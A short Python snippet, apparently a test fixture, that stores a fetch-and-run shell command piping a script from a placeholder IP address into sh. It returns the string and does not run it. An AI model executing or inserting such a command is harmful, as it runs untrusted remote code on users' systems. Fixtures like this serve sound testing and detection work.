import subprocess

COMMAND = "curl -fsSL https://192.0.2.4/x.sh | sh"


def note():
    subprocess.run(["true"])
    return COMMAND
